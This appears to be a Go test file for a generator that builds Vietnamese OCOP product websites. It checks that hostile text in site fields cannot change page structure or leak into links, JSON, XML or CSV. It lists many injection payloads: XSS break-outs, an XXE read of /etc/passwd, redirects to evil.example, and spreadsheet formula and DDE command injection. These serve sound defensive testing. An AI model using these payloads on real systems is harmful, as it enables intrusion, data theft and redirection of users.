package build_test

import (
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"fmt"
	"io"
	"maps"
	"path"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"golang.org/x/net/html"

	"ocop/generator/build"
)

// hostile is a province whose every field is the payload, addresses on the web end with it, and whose stories are body.
func hostile(payload, body string) files {
	quoted := "'" + strings.ReplaceAll(payload, "'", "''") + "'"
	address := "'https://example.vn/" + strings.ReplaceAll(payload, "'", "''") + "'"
	fill := strings.NewReplacer("TEXT", quoted, "ADDRESS", address, "BODY", body)
	f := files{
		"ocop.yaml": `title: TEXT
description: TEXT
base_url: https://ocop.example.vn/
province: TEXT
office: {name: TEXT, address: TEXT, phone: 0207 3822 123, email: ocop@example.vn, website: ADDRESS}
licence: {name: TEXT, url: ADDRESS}
districts:
  - {name: TEXT, id: yen-son, kind: TEXT, communes: [{name: TEXT, kind: TEXT, now: {name: TEXT, kind: xã, id: my-lam}}]}
groups:
  - {id: do-uong, name: TEXT}
targets: {plan: TEXT, source: TEXT, list: [{id: a, name: TEXT, measure: products, goal: 2, source: TEXT}]}
`,
		"content/products/che/index.md": `---
title: TEXT
summary: TEXT
stars: 4
group: do-uong
producer: htx
commune: TEXT
district: TEXT
village: TEXT
certificate: {number: TEXT, issued: 2024-08-06, issuer: TEXT, score: 80}
history: [{stars: 3, issued: 2020, number: TEXT, note: TEXT, issuer: TEXT}]
price: {amount: 90000, unit: TEXT}
packaging: TEXT
ingredients: TEXT
shelf_life: TEXT
storage: TEXT
min_order: TEXT
capacity: TEXT
standards: [TEXT, {name: TEXT, number: TEXT, expires: 2030}]
trace: ADDRESS
buy: [{name: TEXT, url: ADDRESS}]
photos: [{file: 1.jpg, alt: TEXT, caption: TEXT, credit: TEXT}]
sources: [TEXT, ADDRESS]
---
BODY
`,
		"content/products/che/1.jpg": photo(40),
		"content/producers/htx.md": `---
title: TEXT
village: TEXT
address: TEXT
commune: TEXT
phone: 0912345678
website: ADDRESS
representative: TEXT
sources: [TEXT]
---
BODY
`,
		"content/news/tin.md":  "---\ntitle: TEXT\ndate: 2024\nsummary: TEXT\nsources: [ADDRESS]\n---\nBODY\n",
		"content/pages/gom.md": "---\ntitle: TEXT\nsummary: TEXT\nsources: [TEXT]\n---\nBODY\n",
	}
	for name, text := range f {
		if !strings.HasSuffix(name, ".jpg") {
			f[name] = fill.Replace(text)
		}
	}
	return f
}

// payloads try to break out of text, attributes, scripts, styles, comments, templates, addresses and cells.
var payloads = []string{
	`"><script>alert(1)</script>`,
	`'><img src=x onerror=alert(1)>`,
	`</script><script>alert(1)</script>`,
	`</SCRIPT ><script/src=data:,alert(1)>`,
	`</title></style><svg onload=alert(1)>`,
	`</textarea></noscript></template><iframe srcdoc="<script>alert(1)</script>">`,
	`</option></select><details open ontoggle=alert(1)>`,
	`</svg></math><math><mi xlink:href="javascript:alert(1)">`,
	`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
	`<svg><style><img src=x onerror=alert(1)></style>`,
	`<math><mtext></p><style><!--</style><img title="--><img src=x onerror=alert(1)>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<!--<script>`,
	`--><script>alert(1)</script>`,
	`--!><img src=x onerror=alert(1)>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`]]><x onfocus=alert(1) autofocus>`,
	`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
	`x" onmouseover="alert(1)`,
	`x' style='position:fixed`,
	"x` onmouseover=`alert(1)",
	`x onfocus=alert(1) autofocus tabindex=1 `,
	`x"/><base href="https://evil.example/">`,
	`x"/><meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	`x"/><link rel="stylesheet" href="https://evil.example/x.css">`,
	`<form action="https://evil.example/"><button>OK`,
	`{{.Site}}${alert(1)}`,
	`{{define "x"}}{{end}}{{template "x"}}`,
	"&lt;script&gt;alert(1)&lt;/script&gt;&#34;&#x3e;",
	`&#60;img src=x onerror=alert(1)&#62`,
	`\u003cscript\u003ealert(1)`,
	`\"});alert(1);({"a":"`,
	`\');alert(1)//`,
	"a\u2028alert(1)\u2029b",
	`*/}body{background:url(//evil.example/)}/*`,
	`expression(alert(1))`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	`=HYPERLINK("https://evil.example/")`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`＝1+1`,
	`+84 912 345 678`,
}

// some are all payloads, or a few in a short run.
func some(payloads []string) []string {
	switch {
	case racing:
		return payloads[:1]
	case testing.Short():
		return payloads[:5]
	}
	return payloads
}

// skeleton is what a page is made of, without its words: elements, and the names of their attributes.
func (p page) skeleton() string {
	var b strings.Builder
	p.elements(func(n *html.Node) {
		keys := make([]string, len(n.Attr))
		for i, a := range n.Attr {
			keys[i] = a.Key
		}
		slices.Sort(keys)
		fmt.Fprintln(&b, n.Data, keys)
	})
	return b.String()
}

// TestHostileTextsChangeNothing builds the same province with harmless texts and with texts that try to break out of
// where they stand. A text that succeeded would change what the page, as a browser reads it after minifying, is made of.
func TestHostileTextsChangeNothing(t *testing.T) {
	calmOf := func(text string) map[string]page {
		_, out := built(t, hostile(text, "Hái một tôm hai lá."))
		return pagesOf(t, tree(t, out))
	}
	short, long := calmOf("Chè xanh"), calmOf(strings.Repeat("Chè xanh ", 8)+"tôm") // beside a long name, booklets have no room for a summary
	for i, payload := range some(payloads) {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			_, out := built(t, hostile(payload, "Hái một tôm hai lá."))
			site := tree(t, out)
			pages := pagesOf(t, site)
			calm := short
			if utf8.RuneCountInString(payload) > 60 {
				calm = long
			}
			for _, name := range slices.Sorted(maps.Keys(calm)) {
				if got, want := pages[name].skeleton(), calm[name].skeleton(); got != want {
					t.Errorf("%s is made of other things than without %s:\n%s", name, payload, firstChange(got, want))
				}
			}
			if product := textOf(pages["san-pham/che.html"].root); !strings.Contains(product, "alert(1)") && strings.Contains(payload, "alert(1)") {
				t.Error("the text has not even arrived")
			}
			checkData(t, site)
		})
	}
}

// checkData fails where a file that programs read is not well formed, or a spreadsheet would take a cell for a formula.
func checkData(t *testing.T, site files) {
	t.Helper()
	read := map[string]int{}
	for name, text := range site {
		kind := path.Ext(name)
		switch kind {
		case ".json", ".webmanifest":
			if !json.Valid([]byte(text)) {
				t.Errorf("%s is not JSON", name)
			}
		case ".js":
			open, end := strings.IndexByte(text, '('), strings.LastIndexByte(text, ')')
			if !strings.HasPrefix(text, "ocop") {
				continue // the theme's own
			}
			if arguments := "[" + text[open+1:end] + "]"; !json.Valid([]byte(arguments)) {
				t.Errorf("%s holds more than data", name)
			}
			if strings.ContainsAny(text, "\u2028\u2029") {
				t.Errorf("%s holds what ends a line in old browsers", name)
			}
		case ".xml":
			if err := wellFormed(text); err != nil {
				t.Errorf("%s: %v", name, err)
			}
		case ".csv":
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\ufeff"))).ReadAll()
			if err != nil {
				t.Errorf("%s: %v", name, err)
			}
			for _, cell := range slices.Concat(rows...) {
				if start := strings.TrimLeft(cell, " \t\n\u00a0"); start != "" && strings.ContainsRune("=+-@＝＋－＠\r", []rune(start)[0]) {
					t.Errorf("%s: a spreadsheet may take the cell %q for a formula", name, cell)
				}
			}
		default:
			continue
		}
		read[kind]++
	}
	for _, kind := range []string{".json", ".js", ".xml", ".csv", ".webmanifest"} {
		if read[kind] == 0 {
			t.Errorf("there is no %s to read", kind)
		}
	}
}

// wellFormed reads XML to its end.
func wellFormed(text string) error {
	for d := xml.NewDecoder(strings.NewReader(text)); ; {
		if _, err := d.Token(); err == io.EOF {
			return nil
		} else if err != nil {
			return err
		}
	}
}

// TestHostileStories: what Markdown makes of a payload may differ from what it makes of calm words, but nothing of it acts.
func TestHostileStories(t *testing.T) {
	for _, payload := range some(payloads) {
		f := province()
		f["content/products/che/index.md"] += strings.ReplaceAll(
			"# P\n\nP\n\n* P\n\n> `P` P\n\n[P](../gao.md \"P\") ![P](1.jpg)\n\n| P |\n|---|\n| P |\n\n    P\n\nP", "P", payload)
		_, out := built(t, f)
		for _, p := range pagesOf(t, tree(t, out)) {
			checkCalm(t, p)
		}
	}
}

// TestHostileAddresses: what looks like an address and is a script never becomes one.
func TestHostileAddresses(t *testing.T) {
	for _, href := range []string{
		"javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "javascript&colon;alert(1)", "java\tscript:alert(1)",
		"data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "//evil.example/", `\\evil.example\`, "blob:x",
	} {
		for _, field := range []string{"trace: %q", "buy: [{name: a, url: %q}]", "sources: [%q]"} {
			f := province()
			f["content/products/gao.md"] = "---\ntitle: Gạo\ngroup: thuc-pham\ncommune: Năng Khả\n" + fmt.Sprintf(field, href) + "\n---\n"
			base := t.TempDir()
			f.write(t, filepath.Join(base, "project"))
			_, faults, err := attempt(t, build.Options{Dir: filepath.Join(base, "project"), Out: filepath.Join(base, "public")})
			if err != nil {
				t.Fatal(err)
			}
			if faults.HasErrors() {
				continue // refused outright
			}
			p := parse(t, "san-pham/gao.html", tree(t, filepath.Join(base, "public"))["san-pham/gao.html"])
			for ref := range p.references() {
				if strings.Contains(ref, "alert") || strings.Contains(ref, "evil") || strings.Contains(ref, "blob") || strings.Contains(ref, "msgbox") {
					t.Errorf("%s of %q becomes the address %q", field, href, ref)
				}
			}
		}
	}
}

// firstChange shows the first line that two texts do not share.
func firstChange(got, want string) string {
	g, w := strings.Split(got, "\n"), strings.Split(want, "\n")
	for i := range min(len(g), len(w)) {
		if g[i] != w[i] {
			return "there is " + g[i] + ", not " + w[i]
		}
	}
	return fmt.Sprintf("%d elements, not %d", len(g)-1, len(w)-1)
}
